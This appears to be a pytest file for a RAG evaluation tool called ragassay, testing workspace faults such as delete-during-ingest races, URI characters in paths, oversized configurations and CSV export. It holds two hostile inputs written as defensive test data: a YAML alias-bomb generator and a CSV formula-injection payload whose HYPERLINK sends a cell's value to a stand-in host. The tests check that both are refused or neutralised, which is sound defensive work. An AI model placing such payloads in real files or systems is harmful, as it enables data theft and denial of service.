"""Faults a workspace meets (issue 37): a delete during an ingest, odd characters in the
workspace's path, labels imported twice, YAML that expands, exports into missing folders, damaged
golden tables, and refusals that must name what to change. Each case failed on the main it was
found on; RELIABILITY.md has a row per case."""

from __future__ import annotations

import json
import os
import random
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from typer.testing import CliRunner

from ragassay.cli.main import app
from ragassay.errors import CollectionDeleted
from ragassay.store.workspace import collection_paths, delete_collection, list_collections, load_documents
from tests.conftest import REPO
from tests.helpers import ingest

RAGASSAY = str(Path(sys.executable).parent / "ragassay")
runner = CliRunner()

# Rounds of the delete-during-ingest race, each with its own seeded delay.
RACE_ROUNDS = 12
RACE_SEED = 37


def _notes(root: Path, count: int, prefix: str) -> Path:
    root.mkdir(parents=True, exist_ok=True)
    for number in range(count):
        (root / f"{prefix}-{number:04d}.txt").write_text(f"Note {prefix} {number}: hive {number} was inspected.\n")
    return root


@pytest.mark.slow
def test_a_delete_during_an_ingest_never_leaves_documents_reported_but_not_stored(tmp_path):
    """The race of issue 37 case 1, run RACE_ROUNDS times with a seeded delay spread over the
    ingest's duration: the delete waits for a merging ingest (it takes the writer lock), and an
    ingest whose staged documents went with the collection says so and stores nothing. In every
    round, what the ingest reported stored is what the collection holds afterwards (deleted
    before the ingest began) or what the delete removed (deleted after it), never a part of it."""
    home = tmp_path / "home"
    corpus = _notes(tmp_path / "corpus", 400, "new")
    base = _notes(tmp_path / "base", 20, "base")
    started = time.perf_counter()
    ingest(home, "timing", (corpus,))
    duration = time.perf_counter() - started
    delays = random.Random(RACE_SEED)
    outcomes = {"deleted first": 0, "stored then deleted": 0, "refused": 0}
    for round_number in range(RACE_ROUNDS):
        name = f"race{round_number}"
        ingest(home, name, (base,))
        delay = delays.uniform(0, 1.2 * duration)
        result: dict = {}

        def run_ingest(name=name, result=result):
            try:
                result["report"] = ingest(home, name, (corpus,))
            except CollectionDeleted as error:
                result["error"] = error

        writer = threading.Thread(target=run_ingest)
        writer.start()
        time.sleep(delay)
        paths = collection_paths(home, name)
        # What the delete removes, read under the writer lock it takes (re-entrant here).
        with paths.write_lock():
            removed = set(load_documents(paths)["doc_id"].to_list())
            delete_collection(home, name)
        writer.join(timeout=120)
        assert not writer.is_alive()
        if "error" in result:
            assert f"collection {name!r} was deleted while this ingest ran" in str(result["error"])
            assert name not in list_collections(home), "a refused ingest stores nothing"
            outcomes["refused"] += 1
            continue
        report = result["report"]
        reported = set(report.ingested) | set(report.replaced) | set(report.unchanged)
        if name in list_collections(home):
            stored = set(load_documents(collection_paths(home, name))["doc_id"].to_list())
            assert stored == reported, (round_number, delay, len(stored), len(reported))
            outcomes["deleted first"] += 1
        else:
            assert removed >= reported, (round_number, delay, len(removed), len(reported))
            outcomes["stored then deleted"] += 1
    # Some delete landed inside an ingest, the race under test (how the rest fall depends on the
    # machine's load: on a busy one every round can land inside).
    assert outcomes["refused"] >= 1, outcomes


def test_deleting_a_collection_being_written_waits_then_names_the_writer(tmp_path):
    """`collections delete` takes the writer lock: while another process writes, it waits the
    lock's bounded time, then exits 2 naming that writer, and deletes nothing."""
    from ragassay.store.locks import collection_lock

    home = tmp_path / "home"
    ingest(home, "c", (_notes(tmp_path / "corpus", 3, "n"),))
    env = {**os.environ, "RAGASSAY_HOME": str(home), "RAGASSAY_LOCK_TIMEOUT": "1"}
    with collection_lock(collection_paths(home, "c").lock_file):
        refused = subprocess.run(
            [RAGASSAY, "collections", "delete", "c"], env=env, cwd=REPO, capture_output=True, text=True, timeout=120
        )
    assert refused.returncode == 2, refused.stderr
    assert "is being written by process" in refused.stderr and "RAGASSAY_LOCK_TIMEOUT" in refused.stderr
    assert "c" in list_collections(home), "a refused delete deletes nothing"
    deleted = subprocess.run(
        [RAGASSAY, "collections", "delete", "c"], env=env, cwd=REPO, capture_output=True, text=True, timeout=120
    )
    assert deleted.returncode == 0, deleted.stderr
    assert "c" not in list_collections(home) and not (home / "deleting").exists()


@pytest.mark.parametrize("folder", ["q?x", "pct%20x", "hash#x", "with space", "nön-äscii"])
def test_a_workspace_path_with_uri_characters_keeps_its_store_inside_and_to_itself(tmp_path, folder):
    """Issue 37 case 2: the MLflow store of a workspace whose path holds `?`, `%`, `#`, a space or
    a non-ASCII letter is that workspace's own `mlflow.db`, its tables read back, a sibling
    workspace (`…/q?other` beside `…/q?x`) sees none of its batches, and the printed `mlflow ui`
    line, split as a shell splits it, names that store."""
    import shlex
    import urllib.parse

    import polars as pl

    from ragassay import tracking

    home, sibling = tmp_path / folder, tmp_path / f"{folder}-other"
    batch = tracking.open_batch(home, ["c"], "retrieval", {"k": "5"}, {})
    table = pl.DataFrame({"query_id": ["q1"], "recall": [1.0]})
    run_id = tracking.log_configuration_run(
        tracking.client(home), batch, "retrieval", "bm25", {}, {"m": 1.0}, {"t": table}
    )
    assert (home / "mlflow.db").is_file() and not (tmp_path / folder.split("?")[0]).is_file()
    assert tracking.download_table(home, run_id, "t").equals(table)
    assert [run.info.run_id for run in tracking.find_runs(home, batch_id=batch.batch_id, role="configuration")] == [
        run_id
    ]
    assert tracking.find_runs(sibling) == []
    words = shlex.split(tracking.ui_command(home))
    store = words[words.index("--backend-store-uri") + 1]
    assert urllib.parse.unquote(store.removeprefix("sqlite:///")) == str(home / "mlflow.db")
    assert words[words.index("--default-artifact-root") + 1] == (home / "mlartifacts").as_uri()


def _alias_bomb(levels: int) -> str:
    """An http system whose body holds `levels` levels of 9 aliases each (9**levels values)."""
    lines = [
        "configurations:",
        "  - label: bomb",
        "    system:",
        "      kind: http",
        "      url: http://127.0.0.1:9/rag",
    ]
    lines += ["      response: {documents: '$.ids[*]'}", "      body:", "        l0: &l0 [x, x, x, x, x, x, x, x, x]"]
    for level in range(1, levels):
        lines.append(f"        l{level}: &l{level} [{', '.join([f'*l{level - 1}'] * 9)}]")
    return "\n".join(lines) + "\n"


def test_yaml_aliases_that_expand_past_the_bound_are_refused_before_they_expand(tmp_path, sample_home, monkeypatch):
    """Issue 37 case 4: the 837-byte alias bomb (9 levels of 9) is refused at once, exit 2,
    naming how far it expands; a self-containing alias too; 3 levels (819 values) is a
    configuration like any other."""
    monkeypatch.setenv("RAGASSAY_HOME", str(sample_home))
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(_alias_bomb(9))
    assert len(bomb.read_bytes()) < 1000
    started = time.perf_counter()
    refused = runner.invoke(app, ["eval", "retrieval", "-c", "sample", "--configs", str(bomb)])
    assert refused.exit_code == 2, refused.output
    assert "expands to" in refused.output and "through its aliases" in refused.output and str(bomb) in refused.output
    assert time.perf_counter() - started < 30
    looped = tmp_path / "loop.yaml"
    looped.write_text("collections: &me [sample, *me]\n")
    refused = runner.invoke(app, ["eval", "retrieval", "--configs", str(looped)])
    assert refused.exit_code == 2 and "contains itself" in refused.output, refused.output
    from ragassay.cli.common import read_yaml

    body = read_yaml(_alias_bomb(3))["configurations"][0]["system"]["body"]
    assert len(body["l2"]) == 9 and body["l2"][0][0] == body["l0"]


def test_a_configuration_larger_than_prefect_keeps_is_refused_naming_its_largest_value(
    tmp_path, sample_home, monkeypatch
):
    """Issue 37 case 4: a legitimately large body (600 kB, no aliases) is refused before any work
    with exit 2, naming the body, not Prefect's flow-run crash (exit 3)."""
    monkeypatch.setenv("RAGASSAY_HOME", str(sample_home))
    configs = tmp_path / "large.json"
    system = {
        "kind": "http",
        "url": "http://127.0.0.1:9/rag",
        "response": {"documents": "$.ids[*]"},
        "body": {"q": "{{question}}", "padding": "x" * 600_000},
    }
    configs.write_text(json.dumps([{"label": "large", "system": system}]))
    refused = runner.invoke(app, ["eval", "retrieval", "-c", "sample", "--configs", str(configs)])
    assert refused.exit_code == 2, refused.output
    message = " ".join(refused.output.split())
    assert "more than the 524,288 Prefect keeps" in message and "configurations[0].system.body.padding" in message


@pytest.mark.parametrize(
    ("content", "found"), [("- {label: a}\n", "its top level is a list"), ("just words\n", "its top level is the str")]
)
def test_a_pipeline_file_that_is_not_a_mapping_says_what_a_pipeline_file_is(tmp_path, content, found):
    """Issue 37 case 9: a list or a scalar at a pipeline file's top level is answered with what
    the file must be, not with fields the user never wrote."""
    pipeline = tmp_path / "pipeline.yaml"
    pipeline.write_text(content)
    refused = runner.invoke(app, ["run", "--config", str(pipeline)])
    assert refused.exit_code == 2
    message = " ".join(refused.output.split())
    assert "must be a mapping of the pipeline's settings" in message and found in message
    assert "Field required" not in message


@pytest.mark.parametrize(
    "settings",
    [{"ks": [True]}, {"configurations": [{"label": "a", "k": True}]}, {"max_questions": False}],
)
def test_true_and_false_are_never_taken_as_numbers(tmp_path, settings):
    """Issue 37 case 10: `ks: [true]` and `k: true` were taken as 1."""
    from ragassay.config import AnswerEvalConfig, RetrievalEvalConfig
    from ragassay.config_errors import parse_config
    from ragassay.errors import ConfigError

    kind = AnswerEvalConfig if "k" in str(settings.get("configurations")) else RetrievalEvalConfig
    with pytest.raises(ConfigError, match=r"must be a number .*not true/false"):
        parse_config(kind, collections=["sample"], home=tmp_path, **settings)


def test_an_export_into_a_missing_folder_makes_it_and_an_unwritable_path_is_named(tmp_path):
    """Issue 37 case 5: `judge label --export` into a missing folder made it exit 3; into one it
    cannot write it blamed RAGASSAY_HOME. The export's folders are made; a path that cannot be
    written (here: under a file) is named, a ConfigError (exit 2)."""
    from ragassay.errors import ConfigError
    from ragassay.judge.calibration.labels import export_sample
    from ragassay.store.judge_schemas import JUDGE_LABELS

    target = tmp_path / "new" / "folders" / "sample.jsonl"
    assert export_sample([], target, JUDGE_LABELS.empty()) == 0 and target.is_file()
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    with pytest.raises(ConfigError, match=rf"cannot write the sample to label {blocker}/sample.jsonl"):
        export_sample([], blocker / "sample.jsonl", JUDGE_LABELS.empty())


def test_a_python_system_that_times_out_itself_says_whose_timeout_and_the_bound():
    """Issue 37 case 10: an async target's own asyncio timeout read 'TimeoutError: '."""
    from ragassay.systems.calls import call_system
    from ragassay.systems.python_system import PythonSystem

    system = PythonSystem(
        kind="python", target="tests.test_workspace_faults:times_out_itself", timeout_seconds=5, max_retries=0
    )
    [record] = call_system(system, [("q1", "When?")], cache=None)
    assert record.error_kind == "timeout"
    assert "times_out_itself raised TimeoutError (no message) itself, within ragassay's 5 s bound" in record.error


async def times_out_itself(question: str) -> dict:
    import asyncio

    await asyncio.wait_for(asyncio.sleep(10), timeout=0.01)
    return {"answer": question}


def test_a_recall_curve_with_nothing_scored_says_so_without_a_legend_warning(recwarn):
    """Issue 37 case 10: matplotlib warned 'No artists with labels found to put in legend'."""

    from ragassay import plots
    from ragassay.metrics.averaging import IntervalRow

    empty = [IntervalRow(configuration="dead", metric="recall@5", scored=0, mean=None, ci_low=None, ci_high=None)]
    figure = plots.recall_curve_figure(empty, [1, 5], "recall@k")
    [axes] = figure.axes
    assert axes.get_legend() is None and [t.get_text() for t in axes.texts] == ["no configuration scored a question"]
    assert not [w for w in recwarn if "legend" in str(w.message)]


def test_an_index_build_whose_collection_was_deleted_swaps_nothing_in(tmp_path):
    """Issue 37 case 1, the same class for the index: a build whose collection was deleted while
    it ran finds its staging folder gone, says so, and does not recreate the collection."""
    from ragassay.index.build import swap_in_index
    from ragassay.index.inputs import staging_folder

    home = tmp_path / "home"
    ingest(home, "c", (_notes(tmp_path / "corpus", 3, "n"),))
    paths = collection_paths(home, "c")
    staging = staging_folder(paths)
    staging.mkdir()
    delete_collection(home, "c")
    with pytest.raises(CollectionDeleted, match="was deleted while its index was built"):
        swap_in_index(paths, staging, {"embedding_model": "x"})
    assert not paths.root.exists() and "c" not in list_collections(home)


def test_an_exported_csv_never_starts_a_cell_with_a_formula_and_reads_back_the_same_text(tmp_path):
    """Issue 58 case 4: `judge label --export` wrote a question `=HYPERLINK(...)` as it is, which a
    spreadsheet runs when the file is opened (CSV formula injection). Every cell a spreadsheet would
    read as a formula starts with `'` (OWASP); the import gives back the exact text, also after a
    spreadsheet saved the file again (dropping that `'` itself)."""
    import csv

    from ragassay.judge.calibration.labels import export_sample
    from ragassay.judge.calibration.labels.files import read_label_file
    from ragassay.judge.calibration.labels.sample import SampleItem, sample_id_of
    from ragassay.store.judge_schemas import JUDGE_LABELS

    hostile = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1 bees", "-2 hives", "@SUM(A1:A9)", "'quoted", "\tTab"]
    items = [
        SampleItem(
            item_id=f"i{n}", sample_id=sample_id_of("b1", 0, 6), batch_id="b1", configuration="hybrid",
            query_collection="sample", query_id=f"q{n}", metric="faithfulness", question=text, answer=text,
            statement=text, context=text, context_digest="d", cited_sources=[1], stratum="supported",
            stratum_size=6, judge_model="m", prompt_version="p", support_threshold=0.5, judge_verdict="supported",
            p_supported=0.9,
        )
        for n, text in enumerate(hostile)
    ]  # fmt: skip
    exported = tmp_path / "sample.csv"
    assert export_sample(items, exported, JUDGE_LABELS.empty()) == len(hostile)
    rows = list(csv.DictReader(exported.open(encoding="utf-8", newline="")))
    cells = [value for row in rows for value in row.values() if value]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert rows[0]["statement"] == "'" + hostile[0] and rows[4]["statement"] == "''quoted"

    for row in rows:
        row["label"] = "supported"
    filled = tmp_path / "filled.csv"
    with filled.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    assert [label.statement for label in read_label_file(filled)] == hostile
    # A spreadsheet that saved the file again dropped the `'` it showed as text: still the same.
    for row in rows:
        row["statement"] = (
            row["statement"][1:] if row["statement"][1:].startswith(("=", "+", "-", "@", "\t")) else row["statement"]
        )
    with filled.open("w", encoding="utf-8", newline="") as file:
        writer = csv.DictWriter(file, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    assert [label.statement for label in read_label_file(filled)] == hostile
